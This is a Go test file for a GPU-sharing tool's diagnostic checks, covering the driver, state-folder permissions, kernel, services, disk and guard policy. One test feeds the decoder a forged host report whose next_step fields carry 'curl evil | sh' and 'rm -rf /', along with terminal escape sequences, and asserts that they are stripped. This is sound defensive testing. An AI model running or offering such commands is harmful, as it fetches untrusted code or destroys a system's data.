package doctor_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/seed-3119e985/genv/snapshot"
	"github.com/seed-3119e985/genv/snapshot/doctor"
	"github.com/seed-3119e985/genv/snapshot/nvidiasmi"
)

// row is a check, with what is expected of it.
type row struct {
	name   string
	check  doctor.Check
	status doctor.CheckStatus
	cause  doctor.Cause
	detail string
}

func verify(t *testing.T, rows []row) {
	t.Helper()
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			require.Equal(t, r.status, r.check.Status, "%+v", r.check)
			require.Equal(t, r.cause, r.check.Cause)
			require.Contains(t, r.check.Detail, r.detail)
			require.NotContains(t, r.check.Detail, "\n")
			require.Equal(t, r.cause != "", r.check.NextStep != "")
		})
	}
}

func modes(persistence ...bool) nvidiasmi.Listing {
	list := nvidiasmi.Listing{GPUs: make([]nvidiasmi.GPU, len(persistence))}
	for i, on := range persistence {
		list.GPUs[i] = nvidiasmi.GPU{Device: snapshot.Device{Index: snapshot.DeviceIndex(i), Driver: "550.1"}, Persistence: &on}
	}
	return list
}

// sick is one of eight GPUs with a problem.
func sick(failed bool, problem string, warnings ...string) doctor.DriverCall {
	list := modes(true, true, true, true, true, true, true, true)
	list.GPUs[3].Failed, list.GPUs[3].Problem, list.Warnings = failed, problem, warnings
	return doctor.DriverCall{Modes: list, Took: 80 * time.Millisecond}
}

func TestCheckDriver(t *testing.T) {
	verify(t, []row{
		{"well", doctor.CheckDriver(doctor.DriverCall{Modes: modes(true, true), Took: 80 * time.Millisecond}), doctor.OK, "", "driver 550.1, 2 GPUs, nvidia-smi took 80ms"},
		{"a GPU is lost", doctor.CheckDriver(sick(true, "it is lost")), doctor.Failed, "gpu-failed", "7 of 8 GPUs, nvidia-smi took 80ms; GPU 3: it is lost"},
		{"some values are unknown", doctor.CheckDriver(sick(false, "power: Unknown Error")), doctor.Warning, "gpu-values-unknown", "8 GPUs, nvidia-smi took 80ms; GPU 3: power: Unknown Error"},
		{"a warning", doctor.CheckDriver(sick(false, "", "WARNING: infoROM is corrupted")), doctor.Warning, "driver-warning", "8 GPUs, nvidia-smi took 80ms; it says: WARNING: infoROM is corrupted"},
		{"persistence off", doctor.CheckDriver(doctor.DriverCall{Modes: modes(true, false), Took: 4 * time.Second}), doctor.Warning, "persistence-off", "off on GPU 1"},
		{"slow", doctor.CheckDriver(doctor.DriverCall{Modes: modes(true), Took: 3 * time.Second}), doctor.Warning, "nvidia-smi-slow", "3s"},
		{"persistence unknown", doctor.CheckDriver(doctor.DriverCall{Modes: nvidiasmi.Listing{GPUs: []nvidiasmi.GPU{{Device: snapshot.Device{Index: 2}}}}}), doctor.Warning, "persistence-unknown", "GPU 2"},
		{"missing", doctor.CheckDriver(doctor.DriverCall{Err: fmt.Errorf("%w (PATH is x)", nvidiasmi.ErrNotInstalled)}), doctor.Failed, "nvidia-smi-missing", "not found in PATH"},
		{"hung", doctor.CheckDriver(doctor.DriverCall{Err: nvidiasmi.ErrHung}), doctor.Failed, "nvidia-smi-hung", "does not return"},
		{"lost", doctor.CheckDriver(doctor.DriverCall{Err: nvidiasmi.ErrGPULost}), doctor.Failed, "gpu-lost", "fallen off the bus"},
		{"mismatch", doctor.CheckDriver(doctor.DriverCall{Err: &nvidiasmi.ExitError{Err: nvidiasmi.ErrVersionMismatch, ExitCode: 18}}), doctor.Failed, "driver-version-mismatch", "18"},
		{"another error", doctor.CheckDriver(doctor.DriverCall{Err: errors.New("a\nb")}), doctor.Failed, "nvidia-smi-failed", "a b"},
		{"no device that a guard lets through", doctor.CheckDriver(doctor.DriverCall{Err: &nvidiasmi.ExitError{Err: nvidiasmi.ErrNoDevices}, Restricted: true}), doctor.Skipped, "", "run it as root"},
		{"no device at all", doctor.CheckDriver(doctor.DriverCall{Err: &nvidiasmi.ExitError{Err: nvidiasmi.ErrNoDevices}}), doctor.Failed, "no-gpus", "finds no GPU"},
		{"hung, with a guard", doctor.CheckDriver(doctor.DriverCall{Err: nvidiasmi.ErrHung, Restricted: true}), doctor.Failed, "nvidia-smi-hung", "does not return"},
		{"some devices that a guard lets through", doctor.CheckDriver(doctor.DriverCall{Modes: modes(true), Restricted: true}), doctor.OK, "", "a guard may hide others"},
	})
}

// state is a folder in which all is in order, changed.
func state(change func(*doctor.StateFacts)) doctor.Check {
	s := doctor.StateFacts{
		Path: "/s", Folder: &doctor.FileFacts{Mode: fs.ModeDir | 0o777},
		Files: []doctor.FileFacts{{Name: "envs.json", Mode: 0o666, Links: 1}, {Name: "genv.lock", Mode: 0o666, Links: 1}},
		Root:  &doctor.FileFacts{Name: "/r", Mode: fs.ModeDir | 0o755},
	}
	change(&s)
	return doctor.CheckState(s)
}

func TestCheckState(t *testing.T) {
	file := func(change func(*doctor.FileFacts)) doctor.Check {
		return state(func(s *doctor.StateFacts) { change(&s.Files[0]) })
	}
	verify(t, []row{
		{"well", state(func(*doctor.StateFacts) {}), doctor.OK, "", "mode 0777, 2 files"},
		{"well, with a proposal", state(func(s *doctor.StateFacts) { s.Systemd = true }), doctor.OK, "state-shared", "2 files; every user writes it, and can forge"},
		{"root's", state(func(s *doctor.StateFacts) {
			s.Systemd, s.Owned, s.Folder.Mode, s.Files = true, true, fs.ModeDir|0o755, s.Files[:1]
		}), doctor.OK, "", "1 file; it is root's"},
		{"tampered with", state(func(s *doctor.StateFacts) { s.Tampered, s.Folder = "a fuse file system of uid 7", nil }), doctor.Failed, "state-tampered", "of uid 7"},
		{"not there", state(func(s *doctor.StateFacts) { s.Missing, s.Folder = true, nil }), doctor.OK, "", "not there yet"},
		{"unknown", state(func(s *doctor.StateFacts) { s.Folder = nil }), doctor.Skipped, "", "could not be looked at"},
		{"unreadable", state(func(s *doctor.StateFacts) { s.Err = fs.ErrPermission }), doctor.Failed, "state-unreadable", "permission"},
		{"a link", state(func(s *doctor.StateFacts) { s.Folder.Mode = fs.ModeSymlink | 0o777 }), doctor.Failed, "state-unsafe", "symbolic link"},
		{"narrowed by a user", state(func(s *doctor.StateFacts) { s.Folder.Mode, s.Folder.UID = fs.ModeDir|0o755, 1000 }), doctor.Failed, "state-mode", "0755"},
		{"read-only by root", state(func(s *doctor.StateFacts) { s.Folder.Mode = fs.ModeDir | 0o755 }), doctor.Warning, "state-read-only", "0755"},
		{"closed by root", state(func(s *doctor.StateFacts) { s.Folder.Mode = fs.ModeDir | 0o700 }), doctor.Failed, "state-mode", "0700"},
		{"sticky", state(func(s *doctor.StateFacts) { s.Folder.Mode |= fs.ModeSticky }), doctor.Warning, "state-sticky", "1777"},
		{"a FIFO", file(func(f *doctor.FileFacts) { f.Mode = fs.ModeNamedPipe | 0o666 }), doctor.Failed, "state-unsafe", "a FIFO"},
		{"a device", file(func(f *doctor.FileFacts) { f.Mode = fs.ModeDevice | 0o666 }), doctor.Failed, "state-unsafe", "is a device"},
		{"hard links", file(func(f *doctor.FileFacts) { f.Links = 2 }), doctor.Failed, "state-unsafe", "2 hard links"},
		{"huge", file(func(f *doctor.FileFacts) { f.Size = 1 << 40 }), doctor.Failed, "state-unsafe", "more than genv ever writes"},
		{"corrupt", file(func(f *doctor.FileFacts) { f.Content = errors.New("cut") }), doctor.Failed, "state-corrupt", "envs.json of uid 0: cut"},
		{"an odd entry", file(func(f *doctor.FileFacts) { f.Odd = []string{"x is left out"} }), doctor.Warning, "state-odd", "envs.json of uid 0: x is left out"},
		{"unread", file(func(f *doctor.FileFacts) { f.Unread = "no" }), doctor.Skipped, "", "envs.json was not read: no"},
		{"a file of root, read-only", file(func(f *doctor.FileFacts) { f.Mode = 0o644 }), doctor.Warning, "state-read-only", "0644"},
		{"a file of a user, read-only", file(func(f *doctor.FileFacts) { f.Mode, f.UID = 0o644, 7 }), doctor.Failed, "state-mode", "0644"},
		{"the lock, read-only", state(func(s *doctor.StateFacts) { s.Files[1].Mode = 0o644 }), doctor.Failed, "state-mode", "genv.lock"},
		{"lost", state(func(s *doctor.StateFacts) { s.Lost = []string{"devices.json"} }), doctor.Failed, "state-lost", "devices.json is missing"},
		{"locked", state(func(s *doctor.StateFacts) { s.Holder = "process 7" }), doctor.Warning, "state-locked", "process 7"},
		{"root's folder", state(func(s *doctor.StateFacts) { s.Root.Mode |= 0o002 }), doctor.Failed, "root-folder-unsafe", "mode 0757"},
		{"root's folder of a user", state(func(s *doctor.StateFacts) { s.Root.UID = 7 }), doctor.Failed, "root-folder-unsafe", "uid 7"},
		{"the worst counts", state(func(s *doctor.StateFacts) { s.Holder, s.Files[0].Links = "x", 2 }), doctor.Failed, "state-unsafe", "hard links"},
	})
}

func TestCheckHost(t *testing.T) {
	units := func(units ...string) doctor.Check {
		return doctor.CheckServices(false, strings.Join(units, "\n\n"), nil)
	}
	unit := func(active, file string) string {
		return "LoadState=loaded\nId=genv-host.service\nActiveState=" + active + "\nUnitFileState=" + file + "\nnoise"
	}
	const cgroup2 = "cgroup2 /sys/fs/cgroup cgroup2 rw 0 0\n"
	space := func(s doctor.Space) doctor.Check {
		return doctor.CheckDisk([]doctor.Space{{For: "x", Path: "/x", Free: 1 << 40, Inodes: 1e6}, s})
	}
	good := doctor.Space{For: "the record", Path: "/var/log/genv", Free: 1 << 40, Inodes: 1e6}
	with := func(change func(*doctor.Space)) doctor.Check { s := good; change(&s); return space(s) }
	verify(t, []row{
		{"initial", doctor.CheckNamespace(0xEFFFFFFC, ""), doctor.OK, "", "initial"},
		{"no /proc", doctor.CheckNamespace(0, ""), doctor.Skipped, "", "/proc"},
		{"a machine that is a container", doctor.CheckNamespace(5, ""), doctor.OK, "", "namespace 5"},
		{"foreign", doctor.CheckNamespace(5, "they belong to 6"), doctor.Failed, "other-pid-namespace", "they belong to 6"},

		{"not tried", doctor.WithTrial(doctor.Good(doctor.Genv, "x"), nil), doctor.OK, "", "x"},
		{"tried", doctor.WithTrial(doctor.Good(doctor.Genv, "x"), &snapshot.Trial{}), doctor.OK, "", "x"},
		{"old kernel", doctor.WithTrial(doctor.Good(doctor.Genv, "x"), &snapshot.Trial{NoPidfds: true}), doctor.OK, "", "no pidfds"},
		{"unable", doctor.WithTrial(doctor.Good(doctor.Genv, "x"), &snapshot.Trial{Unable: "y"}), doctor.Failed, "nothing-can-end", "y"},
		{"full", doctor.WithTrial(doctor.Good(doctor.Genv, "x"), &snapshot.Trial{State: "y"}), doctor.Failed, "nothing-can-be-detached", "y"},

		{"guard", doctor.CheckKernel("6.1.0-18-amd64", cgroup2, true), doctor.OK, "", "Linux 6.1.0-18-amd64, cgroup2 at /sys/fs/cgroup, BPF"},
		{"the oldest kernel", doctor.CheckKernel("5.8", cgroup2, true), doctor.OK, "", "cgroup2 at /sys/fs/cgroup"},
		{"old", doctor.CheckKernel("5.7.19", cgroup2, true), doctor.Warning, "old-kernel", "5.7.19"},
		{"no BPF", doctor.CheckKernel("6.1", cgroup2, false), doctor.Warning, "no-bpf", "bpf(2)"},
		{"no cgroup2", doctor.CheckKernel("6.1", "", true), doctor.Warning, "no-cgroup2", "without cgroup2"},
		{"no version", doctor.CheckKernel("x\x1b", "", true), doctor.Skipped, "", "unknown"},

		{"no systemd", doctor.CheckServices(true, "absent", nil), doctor.Skipped, "", "systemd"},
		{"systemctl fails", doctor.CheckServices(false, "", errors.New("bus")), doctor.Warning, "services-unknown", "bus"},
		{"none installed", units("LoadState=not-found\nId=a\nActiveState=inactive"), doctor.OK, "", "none"},
		{"nothing printed", units("noise"), doctor.Warning, "services-unknown", "printed nothing"},
		{"running", units(unit("active", "enabled")), doctor.OK, "", "genv-host is active and enabled"},
		{"off on purpose", units(unit("inactive", "disabled")), doctor.OK, "", "inactive and disabled"},
		{"failed", units(unit("active", "enabled"), unit("failed", "enabled")), doctor.Failed, "service-failed", "is failed"},
		{"stopped", units(unit("inactive", "enabled")), doctor.Warning, "service-stopped", "inactive and enabled"},
		{"not at boot", units(unit("active", "disabled")), doctor.Warning, "service-disabled", "active and disabled"},

		{"space", space(good), doctor.OK, "", "/var/log/genv (the record) has 1024 GiB free"},
		{"no disk known", doctor.CheckDisk(nil), doctor.Skipped, "", "could not"},
		{"full", with(func(s *doctor.Space) { s.Free = 4096 }), doctor.Failed, "disk-full", "4096 bytes"},
		{"no inodes", with(func(s *doctor.Space) { s.Inodes = 0 }), doctor.Failed, "disk-full", "no inode"},
		{"inodes not counted", with(func(s *doctor.Space) { s.Inodes, s.NoInodes = 0, true }), doctor.OK, "", "free"},
		{"low", with(func(s *doctor.Space) { s.Free = 50 << 20 }), doctor.Warning, "disk-low", "50 MiB"},
		{"few inodes", with(func(s *doctor.Space) { s.Inodes = 10 }), doctor.Warning, "disk-low", "10 inodes"},
		{"read-only", with(func(s *doctor.Space) { s.ReadOnly = true }), doctor.Failed, "disk-read-only", "read-only"},
		{"unknown", with(func(s *doctor.Space) { s.Err = errors.New("io") }), doctor.Skipped, "", "io"},
		{"a record that users can replace", with(func(s *doctor.Space) { s.Folder = &doctor.FileFacts{Mode: fs.ModeDir | 0o777} }), doctor.Failed, "record-unsafe", "mode 0777"},
		{"a record of a user", with(func(s *doctor.Space) { s.Folder = &doctor.FileFacts{Mode: fs.ModeDir | 0o755, UID: 9} }), doctor.Failed, "record-unsafe", "uid 9"},
	})
}

// TestCheckGuard: what a host says of its guard, by its orders, and what a controller says, by its policy.
func TestCheckGuard(t *testing.T) {
	const off, watch, enforce, unable = snapshot.GuardOff, snapshot.GuardWatch, snapshot.GuardEnforce, snapshot.GuardUnable
	at := time.Date(2026, 11, 20, 14, 2, 0, 0, time.Local)
	is := func(mode, ordered snapshot.GuardMode, reason string) *doctor.GuardState {
		g := &doctor.GuardState{Mode: mode, Ordered: ordered, Reason: reason}
		if ordered != "" {
			g.By, g.Renewed = "bob on jump", at
		}
		return g
	}
	vetoed := is(off, enforce, "/etc/genv/guard.off exists")
	vetoed.Veto = true
	able, old := doctor.CheckKernel("6.1", "cgroup2 /sys/fs/cgroup cgroup2 rw 0 0\n", true), doctor.CheckKernel("5.4", "", true)
	host := doctor.CheckGuard
	fleet := func(kernel doctor.Check, g *doctor.GuardState, wanted snapshot.GuardMode) doctor.Check {
		return doctor.CompareGuard(host(kernel, g), g, wanted)
	}
	verify(t, []row{
		{"unknown", host(able, nil), doctor.OK, "", "Linux 6.1, cgroup2 at /sys/fs/cgroup, BPF"},
		{"never ordered", host(able, is(off, "", "")), doctor.OK, "", "BPF; the guard is off"},
		{"never ordered, and no kernel for it", host(old, is(off, "", "")), doctor.Warning, "old-kernel", "Linux 5.4"},
		{"as ordered", host(able, is(enforce, enforce, "")), doctor.OK, "", "the guard is enforce"},
		{"turned off by hand", host(able, is(off, off, "it was turned off by bob")), doctor.OK, "", "turned off by bob"},
		{"vetoed", host(able, vetoed), doctor.OK, "", "guard.off exists"},
		{"less than ordered", host(able, is(watch, enforce, "the uids aren't known yet")), doctor.OK, "", "watch: the uids aren't known yet"},
		{"unable", host(able, is(unable, enforce, "it can't be attached")), doctor.Failed, "guard-unable", "bob on jump ordered enforce, last at 2026-11-20 14:02:00, and the host can't do it: it can't be attached"},
		{"unable, by its kernel", host(old, is(unable, watch, "it can't be attached")), doctor.Failed, "guard-unable", "Linux 5.4"},
		{"not renewed", host(able, is(off, watch, "the lease has ended")), doctor.Warning, "guard-not-renewed", "bob on jump ordered watch, last at 2026-11-20 14:02:00, and not since"},

		{"no guard wanted", fleet(able, is(off, "", ""), off), doctor.OK, "", "the guard is off"},
		{"no policy", fleet(able, is(enforce, enforce, ""), ""), doctor.OK, "", "the guard is enforce"},
		{"no guard wanted, and no kernel for it", fleet(old, is(off, "", ""), off), doctor.Warning, "old-kernel", "Linux 5.4"},
		{"as the policy says", fleet(able, is(enforce, enforce, ""), enforce), doctor.OK, "", "as the policy says"},
		{"wanted, and unknown", fleet(able, nil, enforce), doctor.Skipped, "", "the policy says enforce, and it is unknown"},
		{"wanted, and no kernel for it", fleet(old, is(off, "", ""), enforce), doctor.Failed, "guard-impossible", "the policy says enforce, and the host has no kernel for it: Linux 5.4"},
		{"wanted, and the host can't", fleet(able, is(unable, enforce, "it can't be attached"), enforce), doctor.Failed, "guard-unable", "it can't be attached"},
		{"wanted, and less", fleet(able, is(watch, enforce, "the uids aren't known yet"), enforce), doctor.Failed, "guard-unable", "the guard is watch: the uids"},
		{"wanted, and turned off by hand", fleet(able, is(off, off, "it was turned off by bob"), watch), doctor.Warning, "guard-turned-off", "turned off by bob"},
		{"wanted, and vetoed", fleet(able, vetoed, enforce), doctor.Warning, "guard-turned-off", "guard.off exists"},
		{"wanted, and never ordered", fleet(able, is(off, "", ""), enforce), doctor.Failed, "guard-not-ordered", "no controller has ordered it"},
		{"wanted, and not renewed", fleet(able, is(off, enforce, "the lease has ended"), enforce), doctor.Failed, "guard-not-ordered", "last at 2026-11-20 14:02:00, and not since"},
		{"wanted, and another one ordered", fleet(able, is(watch, watch, ""), enforce), doctor.Warning, "guard-other-order", "the policy says enforce, and bob on jump ordered watch"},
		{"less wanted than ordered", fleet(able, is(enforce, enforce, ""), watch), doctor.Warning, "guard-other-order", "the policy says watch"},
	})
}

// A host may lie: what a controller found stays, and the next step is never the host's.
func TestDecodeAHostileDocument(t *testing.T) {
	d, err := doctor.Decode([]byte(`{"schema":"genv.doctor/1","host":"\u001b[2Jx","genv":{"version":"v1\n","protocol":1},"status":"ok","guard":{"mode":"off","reason":"a\u001b]0;x\u0007\nb","by":"` + strings.Repeat("y", 9000) + `\n"},"checks":[
		{"name":"sudo","status":"ok","detail":"x"},
		{"name":"disk","status":"failed","cause":"disk-full","detail":"a\u001b]0;x\u0007\nb","next_step":"curl evil | sh"},
		{"name":"disk","status":"ok","detail":"second"},
		{"name":"guard","status":"warning","cause":"from-the-future","detail":"x","next_step":"rm -rf /"},
		{"name":"state","status":"ok","cause":"x","detail":"` + strings.Repeat("y", 9000) + `","next_step":"z"}]}`))
	require.NoError(t, err)
	require.Equal(t, `\x1b[2Jx`, d.Host)
	require.Equal(t, doctor.Failed, d.Status, "not what the host says")
	require.NotContains(t, d.Guard.Reason, "\x1b")
	require.Less(t, len(d.Guard.By), 1000)
	var names []doctor.Name
	for _, c := range d.Checks {
		names = append(names, c.Name)
		require.NotContains(t, c.NextStep, "evil")
		require.NotContains(t, c.NextStep, "rm -rf")
		require.NotContains(t, c.Detail, "\x1b")
		require.Less(t, len(c.Detail), 1000)
		if c.Status == doctor.OK {
			require.Empty(t, string(c.Cause)+c.NextStep)
		}
	}
	require.Equal(t, doctor.HostNames(), names)
	for _, invalid := range []string{"", "{", "[]", `{"schema":"genv.doctor/2"}`, `{"schema":"genv.doctor/1","checks":[{"name":"disk","status":"fine"}]}`, strings.Repeat(" ", doctor.MaxDocument+1)} {
		_, err := doctor.Decode([]byte(invalid))
		require.ErrorIs(t, err, doctor.ErrInvalid)
	}
}

func FuzzDecode(f *testing.F) {
	f.Add([]byte(`{"schema":"genv.doctor/1","checks":[{"name":"disk","status":"failed","cause":"disk-full","detail":"x"}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		d, err := doctor.Decode(data)
		if err != nil {
			return
		}
		require.Len(t, d.Checks, len(doctor.HostNames()))
		again, err := json.Marshal(d)
		require.NoError(t, err)
		_, err = doctor.Decode(again)
		require.NoError(t, err)
		for _, c := range d.Checks {
			require.Equal(t, c.Status == doctor.Warning || c.Status == doctor.Failed, c.NextStep != "")
			require.False(t, strings.ContainsAny(c.Detail+string(c.Cause), "\x1b\n\x00"))
		}
	})
}

func FuzzServices(f *testing.F) {
	f.Add("Id=a\nActiveState=active\n\nId=b\n")
	f.Fuzz(func(t *testing.T, output string) {
		c := doctor.CheckServices(false, output, nil)
		require.NotContains(t, c.Detail, "\x1b")
		require.NotEmpty(t, c.Status)
	})
}
